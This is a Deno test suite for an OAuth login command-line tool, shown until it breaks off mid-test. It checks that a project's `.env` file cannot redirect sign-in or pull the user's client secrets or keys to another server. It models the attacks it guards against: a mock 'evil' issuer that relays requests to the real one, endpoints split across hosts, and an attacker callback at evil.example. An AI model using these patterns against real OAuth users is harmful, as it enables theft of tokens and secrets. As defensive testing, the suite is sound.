/**
 * Settings that cannot be turned against you (issue 19 §1, SECURITY.md 13). A project's `.env` never
 * adds to or redirects a login whose destination (issuer, provider, tenant, endpoints) the person's own
 * settings name, and its credentials go only with a destination it chose; a secret or key from the
 * environment or a profile never goes to a server a `.env` chose; every run says when a `.env` decides;
 * endpoints given by hand make a cache entry of their own; `doctor` says who decided and which
 * endpoints are on another host.
 *
 * Most cases run two mock issuers: the person's own (`real`) and the project's (`evil`). Where the
 * attack needs it, `evil` relays what it receives to `real`, as an attacker would, so that on the code
 * before the fix the attack succeeds and the case fails on what `evil` saw.
 *
 * @module
 */
import { EXIT, fileStorage, testing } from "../login.ts";
import { serveResourceServer } from "./_resource_server.ts";

const { resolveConfig } = testing;
const { cacheKey } = testing;
import {
  CONFIDENTIAL_CLIENT,
  type MockClient,
  type MockIssuer,
  type MockUser,
  PUBLIC_CLIENT,
  type RecordedRequest,
  type ServedMock,
  serveMockIssuer,
} from "./mock_issuer.ts";
import {
  assertNoLeaks,
  cleanLoginStderr,
  cleanUp,
  exists,
  filesUnder,
  run,
  type RunOptions,
  scriptedBrowser,
  withMock,
} from "./_harness.ts";
import { assert, assertEquals, assertStringIncludes } from "./assert.ts";

// ── Shared ──────────────────────────────────────────────────────────────────────────────────────

/** The folder of a cloned project, where the person runs the tool; its `.env` is the project's. */
const REPO = "/home/alice/repo";
const ENV_FILE = `"${REPO}/.env"`;
const SECRET = CONFIDENTIAL_CLIENT.secret!;

/** Run options for a run in the project's folder with this `.env`. */
function inRepo(dotenv: Record<string, string>, options: RunOptions = {}): RunOptions {
  return { cwd: REPO, files: { ".env": dotenv }, ...options };
}

/** The person's own settings, in the environment: the real issuer and the confidential client. */
function ownEnv(real: ServedMock): Record<string, string> {
  return { OAUTH_ISSUER: real.issuer, OAUTH_CLIENT_ID: CONFIDENTIAL_CLIENT.id, OAUTH_CLIENT_SECRET: SECRET };
}

/** The note every run prints when the `.env` decides where to sign in. */
function note(issuer: string): string {
  return `note: Using the issuer ${issuer} from ${ENV_FILE}, a project file\n`;
}

/** The warning for `.env` settings set aside because the person's own settings decide. */
function ignoring(names: string, by: string, credentials = false): string {
  return `warning: Ignoring ${names} in ${ENV_FILE}: a project file cannot change where you sign in${
    credentials ? " or the credentials sent there" : ""
  } (set by ${by})\n`;
}

/** The warning for the person's own credentials kept from a server the `.env` chose. */
function withholding(names: string): string {
  return `warning: Not using ${names} with the server that ${ENV_FILE} chose; set OAUTH_ISSUER in the environment too if they are meant for it\n`;
}

/** Makes `evil` pass every request on to `real` and hand back its answer: a relaying attacker. */
function relayTo(real: ServedMock): MockIssuer["intercept"] {
  return async (record, url) => {
    const headers = new Headers(record.headers);
    headers.delete("host");
    headers.delete("content-length");
    const body = record.method === "POST" ? new URLSearchParams(record.form) : undefined;
    const target = `${new URL(real.issuer).origin}${url.pathname}${url.search}`;
    return await real.handler(new Request(target, { method: record.method, headers, body }));
  };
}

/** The person's issuer and a project's server (relaying to it unless `relay` is false). */
async function withServers(
  fn: (real: ServedMock, evil: ServedMock) => Promise<void>,
  options: { relay?: boolean; evil?: Parameters<typeof withMock>[1] } = {},
): Promise<void> {
  await withMock(async (real) => {
    await withMock(async (evil) => {
      if (options.relay !== false) evil.intercept = relayTo(real);
      await fn(real, evil);
    }, options.evil);
  });
}

/** What a request carried that authenticates the client: a Basic header, a secret, an assertion. */
function credentialsIn(request: RecordedRequest): string[] {
  const found: string[] = [];
  if (request.headers.authorization?.startsWith("Basic ")) found.push("Basic header");
  if (request.form.client_secret !== undefined) found.push("client_secret");
  if (request.form.client_assertion !== undefined) found.push("client_assertion");
  return found;
}

/** The cache entry file of a login of the real issuer with no hand-given endpoint. */
function normalKey(real: ServedMock, clientId: string, profile?: string): string {
  return cacheKey({ issuer: real.issuer, clientId, scope: undefined, params: [], profile });
}

async function readEntry(home: string, key: string): Promise<Record<string, unknown>> {
  return JSON.parse(await Deno.readTextFile(`${home}/cache/${key}.json`));
}

async function entryFiles(home: string): Promise<string[]> {
  return (await filesUnder(`${home}/cache`)).filter((name) => name.endsWith(".json"));
}

/** A fresh home with this config file (`$XDG_CONFIG_HOME/oauth-login/config.toml`). */
async function homeWith(config?: string): Promise<string> {
  const home = await Deno.makeTempDir({ prefix: "oauth-login-trust-" });
  if (config !== undefined) {
    await Deno.mkdir(`${home}/config/oauth-login`, { recursive: true, mode: 0o700 });
    await Deno.writeTextFile(`${home}/config/oauth-login/config.toml`, config, { mode: 0o600 });
  }
  return home;
}

/** An owner-only EC private key for private_key_jwt (PKCS#8 PEM). */
async function clientKeyFile(dir: string): Promise<string> {
  const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign", "verify"]);
  const der = new Uint8Array(await crypto.subtle.exportKey("pkcs8", pair.privateKey));
  const b64 = btoa(String.fromCharCode(...der)).match(/.{1,64}/g)!.join("\n");
  const path = `${dir}/client.pem`;
  await Deno.writeTextFile(path, `-----BEGIN PRIVATE KEY-----\n${b64}\n-----END PRIVATE KEY-----\n`, { mode: 0o600 });
  await Deno.chmod(path, 0o600);
  return path;
}

/** Each endpoint a person may give by hand: its variable, its path at the mock, its metadata member. */
const ENDPOINTS: [string, string, string][] = [
  ["OAUTH_AUTHORIZATION_ENDPOINT", "/authorize", "authorization_endpoint"],
  ["OAUTH_TOKEN_ENDPOINT", "/token", "token_endpoint"],
  ["OAUTH_DEVICE_AUTHORIZATION_ENDPOINT", "/device_authorization", "device_authorization_endpoint"],
  ["OAUTH_REVOCATION_ENDPOINT", "/revoke", "revocation_endpoint"],
  ["OAUTH_INTROSPECTION_ENDPOINT", "/introspect", "introspection_endpoint"],
  ["OAUTH_USERINFO_ENDPOINT", "/userinfo", "userinfo_endpoint"],
];

/** The entry's endpoints are all the real issuer's (the ones it discovered). */
function assertRealEndpoints(entry: Record<string, unknown>, real: ServedMock): void {
  const metadata = entry.metadata as Record<string, unknown>;
  for (const [, path, member] of ENDPOINTS) assertEquals(metadata[member], `${real.issuer}${path}`, member);
}

// ── A .env adds nothing to the person's own destination ────────────────────────────────────────

Deno.test("a .env endpoint of any kind is not added to an issuer from the environment", async (t) => {
  for (const [variable, path] of ENDPOINTS) {
    await t.step(variable, async () => {
      await withServers(async (real, evil) => {
        const env = ownEnv(real);
        const login = await run(
          ["login"],
          inRepo({ [variable]: `${evil.issuer}${path}` }, { env, browser: scriptedBrowser }),
        );
        try {
          assertEquals(login.code, EXIT.ok, login.stderr);
          assertEquals(evil.requests, [], "the project's server hears nothing");
          assertEquals(real.calls("token")[0].clientAuth, "client_secret_basic", "the secret went to the real issuer");
          // The person's normal entry, with the endpoints the real issuer named.
          assertEquals(await entryFiles(login.home), [`${normalKey(real, CONFIDENTIAL_CLIENT.id)}.json`]);
          assertRealEndpoints(await readEntry(login.home, normalKey(real, CONFIDENTIAL_CLIENT.id)), real);
          // Later, from another folder: logout revokes at the real issuer.
          const logout = await run(["logout"], { home: login.home, env });
          assertEquals(logout.code, EXIT.ok, logout.stderr);
          assertEquals(real.calls("revoke").length, 2);
          assertEquals(evil.requests, []);
          assertEquals(
            login.stderr,
            ignoring(variable, "OAUTH_ISSUER in the environment") +
              cleanLoginStderr(login.opened[0], `127.0.0.1:${real.port}`),
          );
          assertNoLeaks(login, [SECRET]);
        } finally {
          await cleanUp(login);
        }
      });
    });
  }
});

Deno.test("a .env endpoint is not added to the default profile's issuer", async () => {
  await withServers(async (real, evil) => {
    const home = await homeWith(
      `default_profile = "work"\n\n[work]\nissuer = "${real.issuer}"\nclient_id = "${CONFIDENTIAL_CLIENT.id}"\n`,
    );
    const dotenv = { OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/token`, OAUTH_USERINFO_ENDPOINT: `${evil.issuer}/userinfo` };
    const env = { OAUTH_CLIENT_SECRET: SECRET };
    const login = await run(["login"], inRepo(dotenv, { home, env, browser: scriptedBrowser }));
    try {
      assertEquals(login.code, EXIT.ok, login.stderr);
      assertEquals(evil.requests, []);
      const key = normalKey(real, CONFIDENTIAL_CLIENT.id, "work");
      assertEquals(await entryFiles(home), [`${key}.json`]);
      assertRealEndpoints(await readEntry(home, key), real);
      assertEquals(
        login.stderr,
        ignoring("OAUTH_TOKEN_ENDPOINT and OAUTH_USERINFO_ENDPOINT", 'issuer in the profile "work"') +
          cleanLoginStderr(login.opened[0], `127.0.0.1:${real.port}`),
      );
    } finally {
      await cleanUp(login);
    }
  });
});

Deno.test("a .env neither redirects nor adds to a --profile (or a profile the .env itself names)", async (t) => {
  const cases: [string, string[], Record<string, string>][] = [
    ["--profile work", ["--profile", "work"], {}],
    ["OAUTH_PROFILE=work in the .env: one of the person's own profiles", [], { OAUTH_PROFILE: "work" }],
  ];
  for (const [name, args, choice] of cases) {
    await t.step(name, async () => {
      await withServers(async (real, evil) => {
        const home = await homeWith(`[work]\nissuer = "${real.issuer}"\nclient_id = "${CONFIDENTIAL_CLIENT.id}"\n`);
        const dotenv = {
          ...choice,
          OAUTH_ISSUER: evil.issuer,
          OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/token`,
          OAUTH_CLIENT_SECRET: "the-project-secret-value",
        };
        const login = await run(
          ["login", ...args],
          inRepo(dotenv, { home, env: { OAUTH_CLIENT_SECRET: SECRET }, browser: scriptedBrowser }),
        );
        try {
          assertEquals(evil.requests, [], "the project's server hears nothing");
          assertEquals(login.code, EXIT.ok, login.stderr);
          assertEquals(
            login.stderr,
            ignoring(
              "OAUTH_ISSUER, OAUTH_TOKEN_ENDPOINT and OAUTH_CLIENT_SECRET",
              'issuer in the profile "work"',
              true,
            ) +
              cleanLoginStderr(login.opened[0], `127.0.0.1:${real.port}`),
          );
          assertEquals(real.calls("token").map(credentialsIn), [["Basic header"]]);
          const header = real.calls("token")[0].headers.authorization;
          const [id, secret] = atob(header.slice(6)).split(":").map(decodeURIComponent);
          assertEquals([id, secret], [CONFIDENTIAL_CLIENT.id, SECRET], "the person's own secret");
          assertRealEndpoints(await readEntry(home, normalKey(real, CONFIDENTIAL_CLIENT.id, "work")), real);
        } finally {
          await cleanUp(login);
        }
      });
    });
  }
});

Deno.test("a later refresh from another folder goes to the real token endpoint, never to the .env's", async () => {
  await withServers(async (real, evil) => {
    const clock = { now: Date.now() };
    const env = ownEnv(real);
    const login = await run(
      ["login"],
      inRepo({ OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/token` }, { env, browser: scriptedBrowser, now: () => clock.now }),
    );
    try {
      assertEquals(login.code, EXIT.ok, login.stderr);
      clock.now += 2 * 3600_000; // the access token has expired
      const token = await run(["token"], { home: login.home, env, now: () => clock.now });
      assertEquals(token.code, EXIT.ok, token.stderr);
      assertEquals(token.stderr, "");
      assert(real.accessTokens.has(token.stdout.trim()), "a token the real issuer issued");
      assertEquals(real.calls("token").map((r) => r.form.grant_type), ["authorization_code", "refresh_token"]);
      assertEquals(evil.requests, [], "neither the code, the verifier, the secret nor the refresh token");
    } finally {
      await cleanUp(login);
    }
  });
});

// ── The person's own secret never goes to a server the .env chose ──────────────────────────────

/** The project's own server: it knows the person's client id, as a public client. */
const LOOK_ALIKE: MockClient = { ...CONFIDENTIAL_CLIENT, auth: "none", secret: undefined };

Deno.test("a .env's issuer gets no client secret, client key or method from the environment or a profile", async (t) => {
  const dir = await Deno.makeTempDir({ prefix: "oauth-login-trust-key-" });
  try {
    const key = await clientKeyFile(dir);
    const cases: [string, Record<string, string>, string[], string, string?][] = [
      ["OAUTH_CLIENT_SECRET", { OAUTH_CLIENT_SECRET: SECRET }, [], "OAUTH_CLIENT_SECRET from the environment"],
      ["OAUTH_CLIENT_KEY", { OAUTH_CLIENT_KEY: key }, [], "OAUTH_CLIENT_KEY from the environment"],
      [
        "OAUTH_CLIENT_SECRET and OAUTH_CLIENT_AUTH",
        { OAUTH_CLIENT_SECRET: SECRET, OAUTH_CLIENT_AUTH: "client_secret_post" },
        [],
        "OAUTH_CLIENT_SECRET and OAUTH_CLIENT_AUTH from the environment",
      ],
      [
        "client_key and assertion_audience of a profile that names no server",
        {},
        ["--profile", "keys"],
        'client_key and assertion_audience from the profile "keys"',
        `[keys]\nclient_key = "${key}"\nassertion_audience = "token-endpoint"\n`,
      ],
    ];
    for (const [name, extraEnv, args, withheld, config] of cases) {
      await t.step(name, async () => {
        await withMock(async (evil) => {
          const home = await homeWith(config);
          const env = { OAUTH_CLIENT_ID: CONFIDENTIAL_CLIENT.id, ...extraEnv };
          const login = await run(
            ["login", ...args],
            inRepo({ OAUTH_ISSUER: evil.issuer }, { home, env, browser: scriptedBrowser }),
          );
          try {
            assertEquals(evil.requests.flatMap(credentialsIn), [], "no request carried a credential");
            assertEquals(login.code, EXIT.ok, login.stderr);
            assertEquals(evil.calls("par").length, 1, "pushed before any browser opened");
            assertEquals(evil.calls("token").map((r) => r.clientAuth), ["none"]);
            assertEquals(
              login.stderr,
              note(evil.issuer) + withholding(withheld) + cleanLoginStderr(login.opened[0], `127.0.0.1:${evil.port}`),
            );
            assertNoLeaks(login, [SECRET]);
          } finally {
            await cleanUp(login);
          }
        }, { par: true, clients: [LOOK_ALIKE] });
      });
    }
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("a missing secret's hint, when the environment's was kept from a .env's server, says how to use it", async () => {
  const result = await run(
    ["login"],
    inRepo({ OAUTH_ISSUER: "https://idp.example", OAUTH_CLIENT_AUTH: "client_secret_basic" }, {
      env: { OAUTH_CLIENT_ID: "c", OAUTH_CLIENT_SECRET: SECRET },
    }),
  );
  assertEquals(result.code, EXIT.usage);
  assertEquals(
    result.stderr,
    'error: The client authentication "client_secret_basic" needs a client secret\n' +
      "hint: set OAUTH_ISSUER in the environment too if your OAUTH_CLIENT_SECRET is meant for this server\n",
  );
  await cleanUp(result);
});

// ── A .env that decides, decides all of it, and says so on every run ───────────────────────────

Deno.test("the quick start: a .env with its own issuer, client and secret works, and every command says so", async (t) => {
  await withMock(async (real) => {
    const dotenv = {
      OAUTH_ISSUER: real.issuer,
      OAUTH_CLIENT_ID: CONFIDENTIAL_CLIENT.id,
      OAUTH_CLIENT_SECRET: SECRET,
    };
    const login = await run(["login"], inRepo(dotenv, { browser: scriptedBrowser }));
    try {
      await t.step("login", () => {
        assertEquals(login.code, EXIT.ok, login.stderr);
        assertEquals(login.stderr, note(real.issuer) + cleanLoginStderr(login.opened[0], `127.0.0.1:${real.port}`));
        assertEquals(real.calls("token").map(credentialsIn), [["Basic header"]], "the .env's own secret is used");
        assertNoLeaks(login, [SECRET]);
      });
      await t.step("token, from the cache", async () => {
        const token = await run(["token"], inRepo(dotenv, { home: login.home }));
        assertEquals(token.code, EXIT.ok, token.stderr);
        assertEquals(token.stderr, note(real.issuer));
        assert(real.accessTokens.has(token.stdout.trim()));
      });
      await t.step("whoami", async () => {
        const whoami = await run(["whoami"], inRepo(dotenv, { home: login.home }));
        assertEquals(whoami.code, EXIT.ok, whoami.stderr);
        assert(whoami.stderr.startsWith(note(real.issuer)), whoami.stderr);
      });
      await t.step("fetch", async () => {
        const fetched = await run(["fetch", `${real.issuer}/userinfo`], inRepo(dotenv, { home: login.home }));
        assertEquals(fetched.code, EXIT.ok, fetched.stderr);
        assertEquals(fetched.stderr, note(real.issuer));
        assertStringIncludes(fetched.stdout, '"sub"');
      });
      await t.step("doctor", async () => {
        const doctor = await run(["doctor"], inRepo(dotenv, { home: login.home }));
        assertEquals(doctor.stderr, note(real.issuer));
        assertStringIncludes(
          doctor.stdout,
          `warn  config     where you sign in and where credentials go: set by ${ENV_FILE}, a project file (OAUTH_ISSUER)\n`,
        );
      });
      await t.step("logout", async () => {
        const logout = await run(["logout"], inRepo(dotenv, { home: login.home }));
        assertEquals(logout.code, EXIT.ok, logout.stderr);
        assert(logout.stderr.startsWith(note(real.issuer)), logout.stderr);
        assertEquals(real.calls("revoke").map(credentialsIn), [["Basic header"], ["Basic header"]]);
      });
      await t.step("a secret typed as a flag for this run is used with the .env's issuer", async () => {
        const typed = await run(
          ["login", "--client-secret", SECRET],
          inRepo({ OAUTH_ISSUER: real.issuer, OAUTH_CLIENT_ID: CONFIDENTIAL_CLIENT.id }, {
            home: login.home,
            browser: scriptedBrowser,
          }),
        );
        assertEquals(typed.code, EXIT.ok, typed.stderr);
        assertEquals(
          typed.stderr,
          note(real.issuer) +
            "warning: --client-secret is visible to other local users in the process list; set OAUTH_CLIENT_SECRET instead\n" +
            cleanLoginStderr(typed.opened[0], `127.0.0.1:${real.port}`),
        );
        assertEquals(real.calls("token").at(-1)!.clientAuth, "client_secret_basic");
      });
    } finally {
      await cleanUp(login);
    }
  });
});

Deno.test("a .env that decides keeps every endpoint it gives on the host where the person signs in", async (t) => {
  await withServers(async (real, evil) => {
    const cases: [string, Record<string, string>, string][] = [
      [
        "a token endpoint beside the real issuer",
        { OAUTH_ISSUER: real.issuer, OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/token` },
        `error: The token endpoint in ${ENV_FILE} is on another host (127.0.0.1:${evil.port}) than its issuer (127.0.0.1:${real.port})\n`,
      ],
      [
        "no issuer: the real authorization endpoint, and a token endpoint elsewhere",
        { OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/token`, OAUTH_AUTHORIZATION_ENDPOINT: `${real.issuer}/authorize` },
        `error: The token endpoint in ${ENV_FILE} is on another host (127.0.0.1:${evil.port}) than its authorization endpoint (127.0.0.1:${real.port})\n`,
      ],
    ];
    for (const [name, dotenv, error] of cases) {
      await t.step(name, async () => {
        const login = await run(
          ["login"],
          inRepo({ ...dotenv, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id }, { browser: scriptedBrowser }),
        );
        assertEquals(login.code, EXIT.usage, login.stderr);
        assertEquals(
          login.stderr,
          error +
            "hint: a project file's endpoints must all be on the host where you sign in; if you trust them, pass them as flags\n",
        );
        assertEquals([...real.requests, ...evil.requests], []);
        assertEquals(login.opened, []);
        await cleanUp(login);
      });
    }
  });
});

Deno.test("an issuer a .env names must take the code where it sends the browser", async () => {
  await withServers(async (real, evil) => {
    // The project's issuer sends the browser to the real provider and keeps the token endpoint for itself.
    evil.metadata.authorization_endpoint = `${real.issuer}/authorize`;
    const login = await run(
      ["login"],
      inRepo({ OAUTH_ISSUER: evil.issuer, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id }, { browser: scriptedBrowser }),
    );
    assertEquals(real.requests, [], "the browser never went to the real provider");
    assertEquals(login.code, EXIT.usage, login.stderr);
    assertEquals(
      login.stderr,
      note(evil.issuer) +
        `error: The issuer ${evil.issuer}, from a project file (.env), sends you to 127.0.0.1:${real.port} to sign in but takes the code at 127.0.0.1:${evil.port}\n` +
        "hint: if you trust this server, set OAUTH_ISSUER in the environment or pass --issuer\n",
    );
    assertEquals(login.opened, []);
    await cleanUp(login);
  }, { relay: false });
});

Deno.test("a .env naming a provider is not merged into the default profile: the .env decides, and says so", async (t) => {
  const home = await homeWith(`default_profile = "work"\n\n[work]\nissuer = "https://idp.example"\nclient_id = "w"\n`);
  const cases: [string, Record<string, string>, string, string][] = [
    ["github", { OAUTH_PROVIDER: "github" }, "the github preset", "https://github.com/login/oauth/access_token"],
    [
      "entra, with the tenant the .env names",
      { OAUTH_PROVIDER: "entra", OAUTH_TENANT: "contoso.example" },
      "the entra preset (issuer https://login.microsoftonline.com/contoso.example/v2.0)",
      "https://login.microsoftonline.com/contoso.example/v2.0",
    ],
  ];
  for (const [name, dotenv, what, issuer] of cases) {
    await t.step(name, async () => {
      const result = await run(["whoami"], inRepo({ ...dotenv, OAUTH_CLIENT_ID: "project-client" }, { home }));
      assertEquals(result.code, EXIT.loginRequired, result.stderr);
      assertEquals(
        result.stderr,
        `note: Using ${what} from ${ENV_FILE}, a project file\n` +
          `error: Not logged in for ${issuer}\n` +
          'hint: run "oauth-login login"\n',
      );
    });
  }
  await Deno.remove(home, { recursive: true });
});

Deno.test("kubectl's login hint never turns a .env's issuer into a flag (the folder's .env still says it)", async () => {
  const result = await run(
    ["token", "--format", "exec-credential"],
    inRepo({ OAUTH_ISSUER: "https://idp.example", OAUTH_CLIENT_ID: "project-client" }, {
      env: {
        KUBERNETES_EXEC_INFO: JSON.stringify({
          apiVersion: "client.authentication.k8s.io/v1",
          kind: "ExecCredential",
          spec: { interactive: false },
        }),
        OAUTH_SCOPE: "openid email",
      },
    }),
  );
  assertEquals(result.code, EXIT.loginRequired, result.stderr);
  assertEquals(
    result.stderr,
    note("https://idp.example") +
      "error: No cached token for https://idp.example\n" +
      `hint: kubectl gives this plugin no terminal: run "oauth-login login --scope 'openid email'" in a terminal, then run kubectl again\n`,
  );
  await cleanUp(result);
});

// ── The cache: endpoints given by hand are an entry of their own ───────────────────────────────

Deno.test("cacheKey() is what it always was without hand-given endpoints (entries saved before are found)", () => {
  // Computed by the code before endpoints were part of the key.
  assertEquals(
    cacheKey({ issuer: "https://idp.example", clientId: "c", scope: undefined, params: [] }),
    "idp.example-c395127b1d51c522",
  );
  const sources = { issuer: "environment" as const, clientId: ".env" as const };
  assertEquals(
    cacheKey({
      issuer: "https://idp.example/oauth2/default",
      clientId: "c",
      scope: "openid email",
      params: [["resource", "https://api.example"]],
      profile: "work",
      sources,
    }),
    "idp.example-cc675c0242923781",
  );
  // A preset's endpoints are not given by hand: GitHub's key is unchanged.
  const github = resolveConfig(
    { command: "token", named: true, flags: { provider: "github", "client-id": "x" } },
    () => undefined,
  );
  assertEquals(cacheKey(github), "github.com-bd3510cff332d2dc");
  // One endpoint given by hand, even the very URL discovery finds, makes another entry.
  const given = cacheKey({
    issuer: "https://idp.example",
    clientId: "c",
    scope: undefined,
    params: [],
    sources: { revocationEndpoint: "flag" },
    revocationEndpoint: "https://idp.example/revoke",
  });
  assert(given !== "idp.example-c395127b1d51c522", given);
});

Deno.test("a login with an endpoint given by hand never overwrites, or is read as, the normal entry", async (t) => {
  await withMock(async (real) => {
    const env = { OAUTH_ISSUER: real.issuer, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id };
    const normal = await run(["login"], { env, browser: scriptedBrowser });
    try {
      assertEquals(normal.code, EXIT.ok, normal.stderr);
      const key = normalKey(real, PUBLIC_CLIENT.id);
      const before = await Deno.readTextFile(`${normal.home}/cache/${key}.json`);
      const token = JSON.parse(before).accessToken;

      await t.step("the person's own settings with an endpoint given by hand", async () => {
        const manual = await run(["login"], {
          home: normal.home,
          env: { ...env, OAUTH_REVOCATION_ENDPOINT: `${real.issuer}/revoke` },
          browser: scriptedBrowser,
        });
        assertEquals(manual.code, EXIT.ok, manual.stderr);
        assertEquals((await entryFiles(normal.home)).length, 2, "an entry of its own");
        assertEquals(await Deno.readTextFile(`${normal.home}/cache/${key}.json`), before, "the normal entry untouched");
      });
      await t.step("a .env that decides, with an endpoint on its issuer's host", async () => {
        const dotenv = {
          OAUTH_ISSUER: real.issuer,
          OAUTH_CLIENT_ID: PUBLIC_CLIENT.id,
          OAUTH_USERINFO_ENDPOINT: `${real.issuer}/userinfo`,
        };
        const project = await run(["login"], inRepo(dotenv, { home: normal.home, browser: scriptedBrowser }));
        assertEquals(project.code, EXIT.ok, project.stderr);
        assertEquals((await entryFiles(normal.home)).length, 3);
        assertEquals(await Deno.readTextFile(`${normal.home}/cache/${key}.json`), before, "the normal entry untouched");
      });
      await t.step("the normal settings still read the normal entry", async () => {
        const printed = await run(["token"], { home: normal.home, env });
        assertEquals(printed.code, EXIT.ok, printed.stderr);
        assertEquals(printed.stdout, `${token}\n`);
      });
    } finally {
      await cleanUp(normal);
    }
  });
});

// ── --save-profile, and the variables a .env may not set ───────────────────────────────────────

Deno.test("--save-profile never saves where to sign in from a .env", async (t) => {
  await withServers(async (real, evil) => {
    await t.step("a .env that decides: refused before anything is sent", async () => {
      const home = await homeWith();
      const result = await run(
        ["login", "--save-profile", "proj"],
        inRepo({ OAUTH_ISSUER: real.issuer, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id }, { home, browser: scriptedBrowser }),
      );
      assertEquals(result.code, EXIT.usage, result.stderr);
      assertEquals(
        result.stderr,
        note(real.issuer) +
          `error: Cannot save the profile "proj": where to sign in comes from ${ENV_FILE}, a project file\n` +
          `hint: if you trust that server, name it yourself: --issuer ${real.issuer}\n`,
      );
      assertEquals(real.requests, []);
      assertEquals(await exists(`${home}/config/oauth-login/config.toml`), false);
      await cleanUp(result);
    });
    await t.step("the person's own destination: the .env's ignored endpoint is not saved", async () => {
      const home = await homeWith();
      const result = await run(
        ["login", "--save-profile", "work"],
        inRepo({ OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/token`, OAUTH_SCOPE: "openid email" }, {
          home,
          env: { OAUTH_ISSUER: real.issuer, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id },
          browser: scriptedBrowser,
        }),
      );
      assertEquals(result.code, EXIT.ok, result.stderr);
      assertEquals(
        await Deno.readTextFile(`${home}/config/oauth-login/config.toml`),
        `[work]\nissuer = "${real.issuer}"\nclient_id = "${PUBLIC_CLIENT.id}"\nscope = "openid email"\n`,
      );
      assertEquals(evil.requests, []);
      await cleanUp(result);
    });
  });
});

Deno.test("OAUTH_LOGIN_CACHE and OAUTH_LOGIN_CONFIG are read from the environment only; a .env's is named and ignored", async () => {
  await withMock(async (real) => {
    const home = await homeWith();
    const dotenv = {
      OAUTH_ISSUER: real.issuer,
      OAUTH_CLIENT_ID: PUBLIC_CLIENT.id,
      OAUTH_LOGIN_CACHE: `${home}/elsewhere`,
      OAUTH_LOGIN_CONFIG: `${home}/elsewhere.toml`,
    };
    const login = await run(["login"], inRepo(dotenv, { home, browser: scriptedBrowser }));
    try {
      assertEquals(login.code, EXIT.ok, login.stderr);
      assertEquals(
        login.stderr,
        'warning: The .env key "OAUTH_LOGIN_CACHE" is ignored: this tool reads it from the environment only\n' +
          'warning: The .env key "OAUTH_LOGIN_CONFIG" is ignored: this tool reads it from the environment only\n' +
          note(real.issuer) + cleanLoginStderr(login.opened[0], `127.0.0.1:${real.port}`),
      );
      assertEquals(await entryFiles(home), [`${normalKey(real, PUBLIC_CLIENT.id)}.json`]);
      assertEquals(await exists(`${home}/elsewhere`), false);
    } finally {
      await cleanUp(login);
    }
  });
});

Deno.test("a .env's redirect URI must be a loopback one, whoever decides the destination", async () => {
  for (const env of [{}, { OAUTH_ISSUER: "https://idp.example" }] as Record<string, string>[]) {
    const result = await run(
      ["login"],
      inRepo({
        OAUTH_ISSUER: "https://idp.example",
        OAUTH_CLIENT_ID: "c",
        OAUTH_REDIRECT_URI: "https://evil.example/cb",
      }, {
        env,
      }),
    );
    assertEquals(result.code, EXIT.usage, result.stderr);
    assertStringIncludes(
      result.stderr,
      'error: The redirect URI "https://evil.example/cb" is not an http URL on a loopback host\n',
    );
    await cleanUp(result);
  }
});

// ── doctor ──────────────────────────────────────────────────────────────────────────────────────

Deno.test("doctor says who decided where credentials go, what of the .env was ignored, and which hosts differ", async (t) => {
  await withServers(async (real, evil) => {
    const line = (status: string, topic: string, text: string) => `${status.padEnd(5)} ${topic.padEnd(10)} ${text}\n`;
    await t.step("the environment decides; the .env's endpoint is ignored", async () => {
      const doctor = await run(
        ["doctor"],
        inRepo({ OAUTH_TOKEN_ENDPOINT: `${evil.issuer}/token` }, { env: ownEnv(real) }),
      );
      assertStringIncludes(
        doctor.stdout,
        line("ok", "config", "where you sign in and where credentials go: set by OAUTH_ISSUER in the environment"),
      );
      assertStringIncludes(
        doctor.stdout,
        line("warn", "config", ignoring("OAUTH_TOKEN_ENDPOINT", "OAUTH_ISSUER in the environment").slice(9, -1)),
      );
      assert(!doctor.stdout.includes(`${evil.issuer}/token`), doctor.stdout);
      assertEquals(doctor.stderr, "");
      assertEquals(evil.requests, []);
      await cleanUp(doctor);
    });
    await t.step("an endpoint the person gives by hand on another host", async () => {
      const doctor = await run(["doctor", "--token-endpoint", `${evil.issuer}/token`], { env: ownEnv(real) });
      assertStringIncludes(
        doctor.stdout,
        line(
          "warn",
          "config",
          `token-endpoint: on another host (127.0.0.1:${evil.port}) than the issuer (127.0.0.1:${real.port}): what is sent there leaves that server`,
        ),
      );
      await cleanUp(doctor);
    });
    await t.step("an endpoint the issuer's own metadata puts on another host (as Google's)", async () => {
      real.metadata.token_endpoint = `${evil.issuer}/token`;
      try {
        const doctor = await run(["doctor"], { env: ownEnv(real) });
        assertStringIncludes(
          doctor.stdout,
          line(
            "ok",
            "discovery",
            `the issuer's metadata puts token_endpoint on 127.0.0.1:${evil.port}: normal for some providers, as the issuer names them`,
          ),
        );
        await cleanUp(doctor);
      } finally {
        delete real.metadata.token_endpoint;
      }
    });
    await t.step("the same, from an issuer a .env chose: refused, as login refuses it", async () => {
      real.metadata.userinfo_endpoint = `${evil.issuer}/userinfo`;
      try {
        const doctor = await run(["doctor"], inRepo({ OAUTH_ISSUER: real.issuer, OAUTH_CLIENT_ID: PUBLIC_CLIENT.id }));
        assertStringIncludes(
          doctor.stdout,
          line(
            "fail",
            "discovery",
            `The issuer ${real.issuer}, from a project file (.env), sends you to 127.0.0.1:${real.port} to sign in but sends your tokens to 127.0.0.1:${evil.port} (if you trust this server, set OAUTH_ISSUER in the environment or pass --issuer)`,
          ),
        );
        assertEquals(doctor.stderr, note(real.issuer));
        await cleanUp(doctor);
      } finally {
        delete real.metadata.userinfo_endpoint;
      }
    });
  });
});

// ── The rule, case by case ──────────────────────────────────────────────────────────────────────

Deno.test("resolveConfig() decides the destination by one kind of source as a whole", async (t) => {
  const cli = { command: "whoami" as const, named: true, flags: {} };
  const env = (values: Record<string, string>) => (name: string) => values[name];
  const cases: [string, Record<string, string>, Record<string, string>, Record<string, unknown>][] = [
    [
      "an environment tenant makes the destination the person's: the .env's issuer is set aside",
